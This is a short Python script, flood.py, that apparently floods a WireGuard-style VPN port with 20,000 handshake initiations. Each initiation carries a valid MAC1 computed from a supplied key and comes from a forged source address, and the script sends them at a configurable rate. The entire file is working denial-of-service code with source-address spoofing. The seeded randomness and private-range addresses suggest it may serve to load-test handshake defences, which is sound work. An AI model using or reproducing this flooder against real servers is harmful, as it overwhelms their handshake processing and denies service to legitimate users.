"""flood.py KEY PORT RATE: initiations with a right MAC1 from 20,000 forged addresses."""

import base64
import random
import socket
import sys

import forged

COUNT = 20_000
key, port, rate = base64.b64decode(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
r = random.Random(3)
datagrams = forged.Datagrams(COUNT)
for n in range(COUNT):
    source = socket.inet_aton("100.%d.%d.%d" % (64 + r.randrange(64), r.randrange(256), r.randrange(1, 255)))
    message = forged.initiation(key, r.randbytes(112)) + bytes(16)
    datagrams.put(n, source, r.randrange(1024, 65535), port, message)
datagrams.repeat(COUNT, rate, forged.Progress())
